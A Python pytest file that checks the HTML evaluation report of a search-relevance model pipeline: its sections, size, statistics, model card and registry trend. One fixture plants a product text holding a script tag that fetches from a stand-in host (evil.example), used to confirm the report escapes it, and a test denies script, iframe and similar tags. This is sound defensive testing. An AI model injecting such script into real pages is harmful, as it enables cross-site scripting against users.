"""The evaluation report: its sections, its size, no network reference, and the numbers behind it.

Built from a synthetic test split large enough to exercise every section (2,400 queries,
a candidate, an untuned base, a lexical baseline and a production model with real
statistics and a real gate decision); the real pipeline's report is checked in
tests/test_evaluate.py and tests/test_pipeline_local.py.
"""

import html
import re
import time
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import roc_auc_score

from searchtune import records
from searchtune.ml.stats import compute_statistics
from searchtune.params import GateParams, TrainParams
from searchtune.records import Estimate
from searchtune.registry import ModelRegistry
from searchtune.steps.evaluation import model_card, report, report_analysis, report_trend, report_within, summary
from searchtune.steps.evaluation.gate import decide

GATE = GateParams()
HOSTILE_PRODUCT = '<script>fetch("https://evil.example/x")</script> drill & <b>bits</b>'


def synthetic_predictions(queries: int = 2400, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    rows = rng.integers(4, 12, size=queries)
    group = np.repeat(np.arange(queries), rows)
    words = np.array(["drill", "cordless", "paint", "white", "led", "bulb", "pvc", "pipe", "saw", "blade", "oak", "door"])
    query_text = {q: " ".join(rng.choice(words, size=1 + q % 6)) + ("" if q % 3 else f" zq{q}") for q in range(queries)}
    latent = rng.normal(size=len(group))
    grade = np.clip(np.round(2 + latent + 0.6 * rng.normal(size=len(group))), 1, 3)
    label = (grade >= 2.5).astype(int)
    frame = pd.DataFrame({
        "query": [query_text[q] for q in group],
        "product_text": [f"product {i % 5000}" for i in range(len(group))],
        "label": label, "grade": grade, "query_group": [f"g{q}" for q in group],
        "score_candidate": latent + 0.5 * rng.normal(size=len(group)),
        "score_production": latent + 0.7 * rng.normal(size=len(group)),
        "score_base": 0.5 * latent + rng.normal(size=len(group)),
        "score_lexical": 1 / (1 + np.exp(-(0.3 * latent + rng.normal(size=len(group))))),
    })
    # The most improved query (the candidate ranks it perfectly, production backwards) shows a hostile product text.
    first = frame["query_group"] == "g0"
    frame.loc[first, "label"] = np.arange(first.sum()) % 2
    frame.loc[first, "score_candidate"] = frame.loc[first, "label"] * 5.0
    frame.loc[first, "score_production"] = -frame.loc[first, "label"] * 5.0
    frame.loc[0, "product_text"] = HOSTILE_PRODUCT
    return frame


def build(predictions: pd.DataFrame, drift: records.DriftSummary | None = None):
    scores = {c.removeprefix("score_"): predictions[c].to_numpy() for c in predictions.columns if c.startswith("score_")}
    statistics = compute_statistics(predictions["query_group"].to_numpy(), predictions["label"].to_numpy(), scores,
                                    gains=predictions["grade"].to_numpy() - 1, logit_models={"candidate", "base", "production"})
    verdict = decide(statistics, GATE, production_label="production v3", candidate_id="run-7", production_version=3)
    drift = drift or records.DriftSummary(reference="production v3's training data", current="this run's training data",
                                          drifted_columns=["label"], columns=6, share_drifted=0.1667,
                                          per_column={"label": {"score": 0.08, "threshold": 0.05, "method": "jensenshannon",
                                                                "drifted": True, "meaning": "label rate"}},
                                          reference_rows=5000, current_rows=5000, status="drifted", headline="DRIFT in label rate")
    evaluation = records.Evaluation(test_rows=len(predictions), test_queries=int(predictions["query_group"].nunique()),
                                    production_version=3, drift=drift, roc_curve={"fpr": [], "tpr": [], "thresholds": []},
                                    confusion_matrix={}, blessing=verdict, model={})
    split = records.SplitStats(rows=len(predictions), queries=evaluation.test_queries, positive_rate=float(predictions["label"].mean()))
    stats = records.IngestStats(fingerprint="f" * 64, sources=["/data/logs.parquet"], column_mapping={"positive_threshold": 2.5},
                                split_fractions={}, rows_read=50_000, rows_rejected=12, rejects_by_reason={"empty query": 12},
                                duplicates_dropped=3, rows_kept=49_985, splits={"train": split, "test": split})
    model = records.ModelRecord(architecture="bi-encoder", base_model=records.BaseModelRef(name_or_path="base", sha256="a" * 64),
                                max_length=64, training=TrainParams().model_dump(), train_rows=40_000, best_epoch=2,
                                best_validation_auc=0.81,
                                epochs=[records.EpochRecord(epoch=e, train_loss=0.6 - 0.05 * e, validation_auc=0.78 + 0.015 * e,
                                                            examples_per_second=50, seconds=60, padding_efficiency=0.8)
                                        for e in (1, 2, 3)])
    train = pd.DataFrame({"query": ["drill cordless", "paint white led"], "product_text": ["product 1", "product 2"]})
    slices = report_analysis.slices(predictions, report_analysis.TrainingIndex.build([train]), GATE, "production")
    return evaluation, stats, model, slices


@pytest.fixture(scope="module")
def rendered():
    predictions = synthetic_predictions()
    evaluation, stats, model, slices = build(predictions)
    page = report.render_report(evaluation, predictions, stats, model, slices, run_id="run-7")
    return page, evaluation, slices, stats, model


class References(HTMLParser):
    """Every tag and every attribute value of a document."""

    def __init__(self):
        super().__init__()
        self.tags, self.values = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.values += [(name, value or "") for name, value in attrs]


def test_the_report_has_every_section_a_reviewer_needs(rendered):
    page, evaluation, *_ = rendered
    assert page.startswith("<!doctype html>")
    state = "BLESSED" if evaluation.blessing.blessed else "NOT BLESSED"
    assert f'<div class="banner {"pass" if evaluation.blessing.blessed else "fail"}"><b>{state}</b>: ' \
           f"{html.escape(evaluation.blessing.reason)}</div>" in page
    for heading in ("Metrics on the same test rows", "Curves, score distributions and calibration", "Per query: candidate vs production v3",
                    "most improved queries", "most regressed queries", "Slices: query-grouped AUC with its interval", "Training",
                    "Data", "Drift since production was trained"):
        assert heading in page, heading
    for chart in ("ROC curves", "Precision-recall curves", "Reliability diagram", "Scores of candidate",
                  "Per-query AUC: candidate vs production v3", "Candidate minus each model: query-grouped AUC",
                  "Queries the candidate ranks better or worse", "Training loss", "Validation AUC"):
        assert f"<title>{chart}" in page, chart
    for model in ("candidate", "production v3", "untuned base", "lexical (char TF-IDF)", "random scores"):
        assert f"<td>{model}</td>" in page, model
    assert re.search(r"\(ECE 0\.\d{3}\)", page)
    assert "empty query: 12" in page and "DRIFT in label rate" in page and 'href="drift_report.html"' in page
    for clause in evaluation.blessing.clauses:
        assert f"<td>{clause.name}</td>" in page


def test_the_report_is_small_self_contained_and_escapes_what_it_shows(rendered):
    page, *_ = rendered
    assert len(page.encode()) <= 2_000_000
    parser = References()
    parser.feed(page)
    assert not parser.tags & {"script", "link", "img", "iframe", "object", "embed", "base", "meta http-equiv"}
    for name, value in parser.values:
        assert "://" not in value and not value.startswith("//"), (name, value)
        if name in ("href", "src"):
            assert value == records.DRIFT_HTML_FILE, (name, value)
    assert "@import" not in page and "url(" not in page
    assert "<script" not in page and "&lt;script&gt;" in page  # product text is shown, escaped
    for svg in re.findall(r"<svg.*?</svg>", page, flags=re.S):
        ElementTree.fromstring(svg)  # every chart is well-formed markup


def test_a_much_larger_test_split_keeps_the_report_under_two_megabytes():
    predictions = synthetic_predictions(queries=12_000, seed=1)
    evaluation, stats, model, slices = build(predictions)
    page = report.render_report(evaluation, predictions, stats, model, slices)
    assert len(predictions) > 80_000 and len(page.encode()) <= 2_000_000


def test_slices_get_intervals_or_say_why_not(rendered):
    slices = rendered[2]
    by_name = {s.name: s for s in slices}
    assert [s.family for s in slices].count("query length") == 3
    for s in slices:
        if s.queries >= GATE.min_test_queries:
            assert s.candidate.low < s.candidate.value < s.candidate.high, s.name
            assert s.difference.low <= s.difference.difference <= s.difference.high, s.name
        else:
            assert s.candidate is None and "fewer than min_test_queries" in s.note
    # Two training queries: queries with a zq<n> word are tail, those made only of their words head.
    assert by_name["tail: a word no training query has"].queries > by_name["head: every word in training queries"].queries
    assert by_name["unseen in training"].rows > by_name["seen in training"].rows


def test_per_query_auc_and_calibration_match_direct_computations():
    predictions = synthetic_predictions(queries=300, seed=2)
    auc = report_analysis.per_query_auc(predictions, "candidate")
    for group, rows in list(predictions.groupby("query_group"))[:50]:
        if 0 < rows["label"].sum() < len(rows):
            assert auc[group] == pytest.approx(roc_auc_score(rows["label"], rows["score_candidate"]))
        else:
            assert group not in auc.index
    rng = np.random.default_rng(3)
    probability = rng.uniform(size=200_000)
    calibrated = report_analysis.calibration(rng.uniform(size=probability.size) < probability, np.log(probability / (1 - probability)))
    assert calibrated["ece"] < 0.01 and calibrated["rows"].sum() == probability.size
    overconfident = report_analysis.calibration(rng.uniform(size=probability.size) < 0.5, np.log(probability / (1 - probability)) * 5)
    assert overconfident["ece"] > 0.3


def test_the_training_index_tells_tail_queries_and_unseen_products():
    index = report_analysis.TrainingIndex.build([pd.DataFrame({"query": ["Cordless Drill", "oak door"], "product_text": ["a", "b"]}),
                                                 pd.DataFrame({"query": ["oak door"], "product_text": ["c"]})])
    assert index.query_words["oak"] == 1  # distinct queries, not rows
    assert not index.is_tail("drill oak") and index.is_tail("drill bits")
    assert list(index.unseen_products(pd.Series(["a", "z", "c"]))) == [False, True, False]


def test_summary_and_model_card_keep_the_essentials(rendered):
    _, evaluation, slices, stats, model = rendered
    markdown = summary.render_summary(evaluation, stats, model, slices)
    assert evaluation.blessing.reason in markdown and "*random scores*" in markdown and "## Slices" in markdown
    assert "DRIFT in label rate" in markdown and records.REPORT_FILE in markdown
    card = model_card.render_model_card(evaluation, stats, model, slices, model_name="shop-relevance", ece=0.042)
    assert card.startswith("---\n") and "model-index" in card and "name: shop-relevance" in card
    for section in ("## Intended use", "## Data", "## Training", "## Evaluation", "## Where it is weaker", "## Limitations"):
        assert section in card, section
    assert summary.format_estimate(evaluation.blessing.gate_estimate()) in card and "0.042" in card


def test_the_within_query_view_comes_first_with_the_numbers_the_verdict_used(rendered):
    page, evaluation, *_ = rendered
    statistics, metric = evaluation.blessing.statistics, evaluation.blessing.rule.gate_metric
    within = page.index("<h2>Within each query: what the gate decides on")
    assert page.index("</div>", page.index('<div class="banner')) < within  # right under the verdict
    assert within < page.index("<title>Candidate minus each model") < page.index("<title>ROC curves")
    assert within < page.index("<title>Per-query AUC: candidate vs") < page.index("<h2>Metrics on the same test rows")
    # Every paired difference on the gate metric, as the statistics hold it (production v3, base, lexical).
    differences = {d.model: d for d in report_within.paired_differences(evaluation)}
    assert set(differences) == set(statistics.comparisons) == {"production", "base", "lexical"}
    for other, found in differences.items():
        expected = statistics.difference(other, metric)
        assert (found.difference, found.low, found.high) == (expected.difference, expected.low, expected.high)
        assert (f"minus {summary.model_label(other, 3)}: {expected.difference:+.3f} "
                f"[{expected.low:+.3f}, {expected.high:+.3f}]") in page
    # The scatter holds every query with both classes and says how many single-class queries it left out.
    counts = statistics.counts
    single_class = counts.queries - counts.queries_with_both_classes
    assert single_class > 0
    assert (f"{counts.queries_with_both_classes} queries with both classes" in page
            and f"Left out: {single_class} of {counts.queries} test queries with a single label class" in page)
    scatter = re.search(r"<svg[^>]*><title>Per-query AUC: candidate vs production v3</title>.*?</svg>", page, flags=re.S)[0]
    dots = [int(n) for n in re.findall(r"<circle [^>]*><title>(\d+) quer", scatter)]
    assert sum(dots) == counts.queries_with_both_classes


def test_the_change_counts_add_up_to_the_queries_that_have_an_auc():
    changes = pd.DataFrame({"change": [-0.5, -0.1, -0.01, 0.0, 0.0, 0.0, 0.02, 0.1, 0.3, 0.9]})
    tally = {name: count for name, count, _ in report_within.change_counts(changes)}
    assert tally == {"worse\n>0.1": 1, "worse\n≤0.1": 2, "same": 3, "better\n≤0.1": 2, "better\n>0.1": 2}


def _blessing_with(blessing: records.Blessing, value: float, blessed: bool = True) -> records.Blessing:
    changed = blessing.model_copy(deep=True, update={"blessed": blessed})
    changed.statistics.models["candidate"]["gauc"] = Estimate(value=value, low=value - 0.02, high=value + 0.02)
    return changed


def test_the_trend_lists_registered_versions_and_refused_candidates_in_time_order(rendered, tmp_path):
    from searchtune.steps.register import candidate_record

    page, evaluation, *_ = rendered
    registry = ModelRegistry(str(tmp_path / "registry"))
    history = [("run-a", 0.70, True), ("run-b", 0.66, False), ("run-c", 0.73, True), ("run-d", 0.69, False), ("run-e", 0.75, True)]
    for run_id, value, blessed in history:
        blessing = _blessing_with(evaluation.blessing, value, blessed)
        if blessed:
            blessing.write(str(tmp_path / run_id))
            registry.register_version("shop", str(tmp_path / run_id), {"run_id": run_id})
        else:
            registry.record_candidate("shop", candidate_record(blessing, run_id))
        time.sleep(0.01)
    registry.move_alias("shop", 3, expected=None, actor="test", reason="seed")
    trend = report_trend.read_trend(registry.root, "shop")
    assert [(p.run_id, p.kind, p.version, p.production) for p in trend.points] == [
        ("run-a", "registered", 1, False), ("run-b", "refused", None, False), ("run-c", "registered", 2, False),
        ("run-d", "refused", None, False), ("run-e", "registered", 3, True)]
    assert [p.estimate.value for p in trend.points] == pytest.approx([v for _, v, _ in history])

    section = report_trend.trend_section(trend, evaluation, "run-7")
    rows = re.findall(r"<tr><td><span class=nw>[^<]*</span></td><td><b[^>]*>([^<]*)</b></td><td>([^<]*)</td><td>[^<]*</td><td class=\"n\">([^<]*)</td>",
                      section)
    assert [(what, run) for what, run, _ in rows] == [("v1 registered", "run-a"), ("refused", "run-b"), ("v2 registered", "run-c"),
                                                      ("refused", "run-d"), ("v3 registered (production)", "run-e"),
                                                      ("this run", "run-7")]
    assert rows[0][2] == "0.700 [0.680, 0.720]" and rows[-1][2] == summary.format_estimate(evaluation.blessing.gate_estimate())
    chart = re.search(r"<svg.*?</svg>", section, flags=re.S)[0]
    ElementTree.fromstring(chart)
    ticks = re.findall(r'<text x="[\d.]+" y="[\d.]+" text-anchor="middle">([^<]*)</text>', chart)
    assert [t for t in ticks if t] == ["v1", "✗", "v2", "✗", "v3", "now"]  # the x axis has no label of its own
    # In the page, the trend comes after the within-query view and before the pooled curves.
    with_trend = report.render_report(evaluation, synthetic_predictions(queries=200, seed=4), *rendered[3:5], rendered[2],
                                      run_id="run-7", trend=trend)
    assert (with_trend.index("<h2>Within each query") < with_trend.index("<h2>Across runs")
            < with_trend.index("<title>Gate metric across runs") < with_trend.index("<title>ROC curves"))


def test_an_empty_or_unreadable_registry_makes_the_trend_one_line(rendered, tmp_path):
    evaluation = rendered[1]
    (tmp_path / "empty").mkdir()
    empty = report_trend.read_trend(str(tmp_path / "empty"), "shop")
    assert empty.points == [] and not empty.note
    section = report_trend.trend_section(empty, evaluation, "run-7")
    assert section.count("<p") == 1 and "<svg" not in section and "<table" not in section
    assert f"The registry {tmp_path / 'empty'} has no registered version or refused candidate of shop yet" in section
    alias = Path(ModelRegistry(str(tmp_path / "broken")).layout.alias("shop", "production"))
    alias.parent.mkdir(parents=True)
    alias.write_text("{not json")  # an alias record nobody can read: the trend says so instead of failing the step
    broken = report_trend.trend_section(report_trend.read_trend(str(tmp_path / "broken"), "shop"), evaluation, "run-7")
    assert broken.count("<p") == 1 and "No trend: the registry" in broken and "could not be read" in broken
    assert "No registry given" in report_trend.trend_section(None, evaluation, "run-7")


def test_a_version_without_gate_numbers_is_listed_but_not_charted(rendered, tmp_path):
    evaluation = rendered[1]
    registry = ModelRegistry(str(tmp_path / "registry"))
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "weights.bin").write_bytes(b"\x01" * 100)  # registered before versions carried their blessing
    registry.register_version("shop", str(tmp_path / "files"), {"run_id": "old"})
    trend = report_trend.read_trend(registry.root, "shop")
    assert len(trend.points) == 1 and trend.points[0].estimate is None and "no gate numbers" in trend.points[0].reason
    section = report_trend.trend_section(trend, evaluation, "run-7")
    assert "Not charted: 1 judged on another gate metric or without numbers" in section
    assert re.findall(r"<circle", section) and section.count("<tr>") == 3  # header, v1, this run
    no_numbers = evaluation.model_copy(deep=True)
    no_numbers.blessing.statistics.models["candidate"]["gauc"] = Estimate(value=None, low=None, high=None)
    assert "<svg" not in report_trend.trend_section(trend, no_numbers, "run-7")  # nothing to chart, the table stays
